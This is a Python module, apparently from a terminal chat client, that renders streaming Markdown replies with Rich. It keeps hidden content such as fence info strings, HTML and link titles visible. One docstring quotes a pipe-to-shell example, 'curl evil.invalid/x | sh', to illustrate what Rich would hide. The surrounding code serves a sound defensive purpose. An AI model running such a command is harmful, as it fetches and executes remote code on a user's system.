"""Markdown to cached lines, whole or block by block while a reply streams.

A growing reply only ever changes its last top-level Markdown block (see
``StreamRenderer.render`` for exactly when a block is final), so the blocks before it are
rendered once and kept, and only the tail is rendered again on each tick. Each block is
drawn by Rich's own ``Markdown`` from the tokens of that block, with Rich's blank-line
state carried across (``new_line_after``), so the lines equal rendering the whole text at
once; the tests compare the two.

Every character of a reply is drawn (what is on screen is what is saved and copied): what
markdown-it or Rich would drop is shown as text. Past markdown-it's nesting limit the rest
of the reply is plain text; HTML, link reference definitions, link titles, image addresses
and code-fence info strings are shown; nesting too deep for the width stops indenting; and
a table too wide for its words is drawn as rows of cells. See ``_parse``.
"""

from __future__ import annotations

import io
import re
from collections.abc import Mapping
from dataclasses import dataclass
from functools import lru_cache

from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.cells import cell_len
from rich.console import Console, ConsoleOptions, RenderResult
from rich.default_styles import DEFAULT_STYLES
from rich.markdown import (
    BlockQuote,
    CodeBlock,
    ImageItem,
    ListItem,
    Markdown,
    TableElement,
    TextElement,
    UnknownElement,
)
from rich.style import Style
from rich.styled import Styled
from rich.syntax import Syntax
from rich.text import Text
from rich.theme import Theme
from textual.strip import Strip

from ..sanitize import clean
from .log_layout import CODE_MARK

# Readable with a 16-colour palette, and takes its background from the terminal (or from
# the code-block part of the log's look, see themed_console); LIGHT_CODE_THEME on a light one.
CODE_THEME = "ansi_dark"
LIGHT_CODE_THEME = "ansi_light"

# Rich's Markdown styles that fix a colour, and the part of the log's look (a component class
# of MessageLog, styled from the theme) whose colours and text style replace it.
MARKDOWN_PARTS: Mapping[str, str] = {
    "markdown.code": "code-inline",
    "markdown.kbd": "code-inline",
    "markdown.code_block": "code-block",
    "markdown.block_quote": "quote",
    "markdown.list": "list",
    "markdown.item.number": "list",
    "markdown.h2": "heading",
    "markdown.h3": "heading",
    "markdown.h4": "heading",
    "markdown.link": "link",
    "markdown.link_url": "link",
    "markdown.table.border": "table",
    "markdown.table.header": "table",
}
# Our own style: what a fenced code block is drawn on. Undefined (no background) unless a
# themed console defines it, with CODE_MARK in its meta (see log_layout.is_code_line).
CODE_BLOCK_STYLE = "chatterm.code_block"

# A link reference definition ("[x]: url") can change how an earlier block renders, which
# breaks the "earlier blocks are final" rule; such replies get one whole render at the end.
_REFERENCE_DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:", re.MULTILINE)


# Exactly Rich's configuration, so block boundaries agree with its own parse.
_PARSER = MarkdownIt().enable("strikethrough").enable("table")


# Nesting narrower than this stops indenting (its text would be cut to fit otherwise).
_MIN_NESTED_WIDTH = 16
# A token of our own: raw source shown as it is (past the nesting limit, HTML, references).
_VERBATIM, _DIM_VERBATIM = "chatterm_verbatim", "chatterm_dim_verbatim"


class _Verbatim(TextElement):
    """Source text drawn as written, wrapped to the width."""

    style_name = "none"

    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        self.text.rstrip()
        yield self.text


class _DimVerbatim(_Verbatim):
    style_name = "dim"


class _BlockQuote(BlockQuote):
    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        if options.max_width - 4 >= _MIN_NESTED_WIDTH:
            yield from super().__rich_console__(console, options)
        else:  # too deep for the width: the quote's text at the same indent, never cut
            yield from console.render(self.elements, options)


class _ListItem(ListItem):
    def render_bullet(self, console: Console, options: ConsoleOptions) -> RenderResult:
        if options.max_width - 3 >= _MIN_NESTED_WIDTH:
            yield from super().render_bullet(console, options)
        else:
            yield from console.render(self.elements, options)

    def render_number(
        self, console: Console, options: ConsoleOptions, number: int, last_number: int
    ) -> RenderResult:
        if options.max_width - len(str(last_number)) - 2 >= _MIN_NESTED_WIDTH:
            yield from super().render_number(console, options, number, last_number)
        else:
            yield from console.render(self.elements, options)


class _TableElement(TableElement):
    """Rich's table, or its rows as "cell │ cell" lines when its words cannot fit: Rich
    would cut them short with "…"."""

    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        rows = [self.header.row] if self.header and self.header.row else []
        rows += self.body.rows if self.body else []
        columns: dict[int, int] = {}
        for row in rows:
            for number, cell in enumerate(row.cells):
                longest = max(map(cell_len, cell.content.plain.split()), default=0)
                columns[number] = max(columns.get(number, 0), longest)
        # Each column takes its longest word plus a cell of padding on both sides (at
        # most; Rich collapses some): a conservative test of whether Rich must cut.
        if sum(columns.values()) + 3 * len(columns) <= options.max_width:
            yield from super().__rich_console__(console, options)
            return
        for row in rows:
            yield Text(" │ ").join(cell.content for cell in row.cells)


@lru_cache(maxsize=256)
def _is_lexer(name: str) -> bool:
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    try:
        get_lexer_by_name(name)
    except ClassNotFound:
        return False
    return True


class _CodeBlock(CodeBlock):
    """Rich's code block, with the fence's info string shown when it is more than the name
    of a language (Rich would hide "```sh curl evil.invalid/x | sh")."""

    info = ""

    @classmethod
    def create(cls, markdown: Markdown, token: Token) -> CodeBlock:
        block = super().create(markdown, token)
        info = (token.info or "").strip()
        if info and not (" " not in info and _is_lexer(info)):
            block.info = info  # type: ignore[attr-defined]
        return block

    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        if self.info:
            yield Text(self.info, style="dim")
        # Rich's own code block, on the themed background (token colours stay on top of it).
        style = console.get_style(CODE_BLOCK_STYLE, default="none")
        theme = LIGHT_CODE_THEME if _is_light(style) else self.theme
        code = str(self.text).rstrip()
        syntax = Syntax(code, self.lexer_name, theme=theme, word_wrap=True, padding=1)
        yield Styled(syntax, style) if style else syntax


def _is_light(style: Style) -> bool:
    """True if *style* draws on a light background (dark syntax colours read better there)."""
    if style.bgcolor is None or style.bgcolor.is_default:
        return False
    red, green, blue = style.bgcolor.get_truecolor()
    return 0.299 * red + 0.587 * green + 0.114 * blue > 127


class _ImageItem(ImageItem):
    """Rich's image placeholder with its address, as links show theirs."""

    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        for text in super().__rich_console__(console, options):
            assert isinstance(text, Text)
            text.append(f"({self.destination})")
            yield text


class _Markdown(Markdown):
    """Rich's ``Markdown`` without the cost of its constructor.

    ``Markdown.__init__`` builds a new ``MarkdownIt`` parser every time (about a
    millisecond), and a streaming reply makes one ``Markdown`` per block per tick; here the
    shared parser's tokens are passed in instead. The attributes are exactly the ones
    ``Markdown.__init__`` sets.
    """

    elements = {
        **Markdown.elements,
        "blockquote_open": _BlockQuote,
        "list_item_open": _ListItem,
        "table_open": _TableElement,
        "fence": _CodeBlock,
        "code_block": _CodeBlock,
        "image": _ImageItem,
        _VERBATIM: _Verbatim,
        _DIM_VERBATIM: _DimVerbatim,
    }

    def __init__(self, text: str, tokens: list[Token]) -> None:
        self.markup = text
        self.parsed = tokens
        self.code_theme = CODE_THEME
        self.justify = None
        self.style = "none"
        self.hyperlinks = False
        self.inline_code_lexer = None
        self.inline_code_theme = CODE_THEME


def make_markdown(text: str = "", tokens: list[Token] | None = None) -> Markdown:
    """A Rich Markdown renderable with chatterm's settings.

    ``hyperlinks=False`` makes Rich print links as "text (url)" with no OSC 8 sequence, so
    the address is always visible and nothing in the terminal is clickable.
    """
    return _Markdown(text, _parse(text) if tokens is None else tokens)


def _verbatim(content: str, line: int, dim: bool = False) -> Token:
    token = Token(_DIM_VERBATIM if dim else _VERBATIM, "", 0, content=content)
    token.map = [line, line + 1]
    return token


def _truncated_at(tokens: list[Token]) -> int | None:
    """The source line where markdown-it stopped parsing at its nesting limit, if it did.

    A container opened at ``maxNesting - 1`` parses its content at the limit, where
    markdown-it skips the rest of its input; Rich then drops even what follows.
    """
    limit = _PARSER.options.maxNesting - 1
    for token in tokens:
        if token.level >= limit and token.type in ("blockquote_open", "list_item_open"):
            return token.map[0] if token.map else 0
    return None


def _lines(source: str, start: int, end: int) -> str:
    return "".join(source.splitlines(keepends=True)[start:end])


def _parse(source: str) -> list[Token]:
    """markdown-it's tokens for *source*, changed so that Rich draws every character."""
    env: dict = {}
    tokens = _PARSER.parse(source, env)
    if (line := _truncated_at(tokens)) is not None:
        # What comes before is Markdown as usual; the rest is drawn as plain text.
        offset = _line_offset(source, line)
        tail = _verbatim(source[offset:], line)
        tail.meta["tail"] = True  # StreamRenderer never starts a parse here
        return [*_parse(source[:offset]), _reveal_tokens([tail], "&" in source)[0]]
    references = [*env.get("references", {}).values(), *env.get("duplicate_refs", [])]
    for ref in sorted(references, key=lambda r: r["map"][0], reverse=True):
        start, end = ref["map"]
        at = next((i for i, t in enumerate(tokens) if t.map and t.map[0] >= end), len(tokens))
        tokens.insert(at, _verbatim(_lines(source, start, end), start, dim=True))
    return _reveal_tokens(tokens, "&" in source)


def _reveal_tokens(tokens: list[Token], entities: bool) -> list[Token]:
    """Inline HTML and link titles shown. With *entities* in the source, text is cleaned
    again: ``&#x202E;`` decodes to the very control that ``clean`` showed as text."""
    for token in tokens:
        if token.type == "html_block":  # Rich draws nothing for HTML
            token.type = _DIM_VERBATIM
        for child in token.children or ():
            if child.type == "html_inline" and child.content not in ("<kbd>", "</kbd>"):
                child.type = "text"
            elif child.type == "link_open" and (title := child.attrs.get("title")):
                child.attrs["href"] = f'{child.attrs.get("href", "")} "{title}"'
            if entities and child.content:
                child.content = clean(child.content)
        if entities:
            token.content = clean(token.content) if token.content else token.content
            token.info = clean(token.info) if token.info else token.info
    return tokens


def themed_console(base: Console, parts: Mapping[str, Style]) -> Console:
    """A console that renders as *base* does, with the colours of *parts* (the log's look:
    "code-block", "heading", ... see MARKDOWN_PARTS) instead of the ones Rich fixes.

    A part adds to Rich's style: where it sets no colour, Rich's stays; Rich's bold or
    underline stay unless the part sets its own.
    """
    styles = {
        name: DEFAULT_STYLES[name] + parts[part]
        for name, part in MARKDOWN_PARTS.items()
        if part in parts
    }
    block = parts.get("code-block", Style())
    styles[CODE_BLOCK_STYLE] = Style(bgcolor=block.bgcolor, meta={CODE_MARK: True})
    return Console(
        theme=Theme(styles),
        file=io.StringIO(),
        # As Textual's own console: box characters, no emoji codes or markup in text.
        color_system=base.color_system,  # type: ignore[arg-type]
        force_terminal=True,
        legacy_windows=False,
        safe_box=False,
        markup=False,
        emoji=False,
        highlight=False,
        soft_wrap=False,
    )


def to_strips(console: Console, renderable: object, options: ConsoleOptions) -> list[Strip]:
    """Render *renderable* into padded lines of exactly ``options.max_width`` cells."""
    width = options.max_width
    lines = console.render_lines(renderable, options, pad=True)  # type: ignore[arg-type]
    return [Strip(line, width) for line in lines]


def render_markdown(console: Console, options: ConsoleOptions, text: str) -> list[Strip]:
    """Render a whole Markdown document."""
    return to_strips(console, make_markdown(text), options)


def render_plain(
    console: Console, options: ConsoleOptions, text: str, style: str = ""
) -> list[Strip]:
    """Render text as-is (no markup, no Markdown), wrapped to the width."""
    return to_strips(console, Text(text, style=style, end=""), options)


def code_blocks(text: str) -> list[str]:
    """The raw contents of the fenced code blocks in *text*, nested ones included."""
    return [token.content for token in _PARSER.parse(text) if token.type == "fence"]


# A top-level fenced code block, for messages too big to parse (see scan_code_blocks).
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})[^\n]*\n(.*?\n)?^ {0,3}\1[`~]*[ \t]*$", re.M | re.S)


def scan_code_blocks(text: str) -> list[str]:
    """The top-level fenced code blocks of *text*, found by a scan of its lines: parsing
    megabytes of Markdown takes seconds."""
    return [match.group(2) or "" for match in _FENCE.finditer(text)]


@dataclass(frozen=True)
class Block:
    """A top-level block: ``tokens[start:end]`` of a parse, from source line ``first_line``."""

    start: int
    end: int
    first_line: int


def top_level_blocks(tokens: list[Token]) -> list[Block]:
    """Split a markdown-it token stream into its top-level blocks."""
    blocks: list[Block] = []
    index = 0
    count = len(tokens)
    while index < count:
        token = tokens[index]
        start = index
        if token.nesting == 1:
            depth = 0
            while index < count:
                depth += tokens[index].nesting
                index += 1
                if depth == 0:
                    break
        else:
            index += 1
        blocks.append(Block(start, index, token.map[0] if token.map else 0))
    return blocks


# Rich's Markdown loop keeps one flag, "new_line", set by every block element that closes
# (nested ones included) and read before the next top-level element is drawn: True means
# "write a blank line first". Rendering a block on its own starts with the flag False, so
# to reproduce the whole-document output exactly the flag is carried from block to block:
# a leading empty HTML block (drawn as nothing) sets it when it should be set.
_SET_NEW_LINE = Token("html_block", "", 0, content="")
# Token types Rich handles inline, which never touch the flag.
_INLINE_TYPES = frozenset(
    {"text", "hardbreak", "softbreak", "link_open", "link_close", "html_inline"}
)


def _flatten(tokens: list[Token]) -> list[Token]:
    # Same walk as Rich's Markdown._flatten_tokens.
    flat: list[Token] = []
    for token in tokens:
        if token.children and not (token.type == "fence" or token.tag == "img"):
            flat.extend(_flatten(token.children))
        else:
            flat.append(token)
    return flat


def new_line_after(tokens: list[Token], new_line: bool) -> bool:
    """Rich's "new_line" flag after it has processed *tokens*, starting from *new_line*."""
    elements = _Markdown.elements
    for token in _flatten(tokens):
        kind = token.type
        if kind in _INLINE_TYPES:
            continue
        if token.tag in Markdown.inlines and kind not in ("fence", "code_block"):
            continue
        if token.nesting <= 0:
            element = elements.get(kind, UnknownElement)
            new_line = element.new_line
    return new_line


def _line_offset(text: str, line: int) -> int:
    """Character offset where (0-based) *line* of *text* starts."""
    offset = 0
    for _ in range(line):
        found = text.find("\n", offset)
        if found < 0:
            return len(text)
        offset = found + 1
    return offset


class StreamRenderer:
    """Renders a growing Markdown document, re-rendering only its last top-level block."""

    def __init__(self) -> None:
        self.reset()

    def reset(self) -> None:
        """Forget everything rendered (the width changed)."""
        self._base = 0  # text[:_base] is final and rendered into _final
        self._final: list[Strip] = []
        self._new_line = False  # Rich's flag after the final blocks
        self._tail: list[Strip] = []
        self._rendered_text = ""
        self._width = -1

    @property
    def tail_start(self) -> int:
        """Index of the first line that the last render may have changed."""
        return len(self._final)

    def render(self, console: Console, options: ConsoleOptions, text: str) -> list[Strip]:
        """Lines for *text*; cheap when *text* extends the text of the previous call."""
        width = options.max_width
        if width != self._width or not text.startswith(self._rendered_text):
            self.reset()
            self._width = width
        self._rendered_text = text
        source = text[self._base :]
        tokens = _parse(source)
        blocks = top_level_blocks(tokens)
        # A block is complete once a later block is established, and the block structure
        # of finished lines never changes. A later block is established when its first two
        # lines are finished: a partial line can still change what it starts ("*" opens a
        # list, "**bold**" continues the previous item) and a table needs its delimiter row.
        complete_lines = source.count("\n")
        split = 0
        for index in range(len(blocks) - 1, 0, -1):
            if tokens[blocks[index].start].meta.get("tail"):
                continue  # past the nesting limit: parsed again, it would read differently
            if blocks[index].first_line + 1 < complete_lines:
                split = index
                break
        for block in blocks[:split]:
            block_tokens = tokens[block.start : block.end]
            self._final.extend(self._render_block(console, options, block_tokens))
            self._new_line = new_line_after(block_tokens, self._new_line)
        if split:
            self._base += _line_offset(source, blocks[split].first_line)
        tail_tokens = tokens[blocks[split].start :] if blocks else []
        self._tail = self._render_block(console, options, tail_tokens) if tail_tokens else []
        return self._final + self._tail

    def _render_block(
        self, console: Console, options: ConsoleOptions, tokens: list[Token]
    ) -> list[Strip]:
        prefix = [_SET_NEW_LINE] if self._new_line else []
        return to_strips(console, make_markdown(tokens=prefix + tokens), options)

    @staticmethod
    def needs_full_render(text: str) -> bool:
        """True when block-by-block output could differ from a whole render."""
        return _REFERENCE_DEFINITION.search(text) is not None
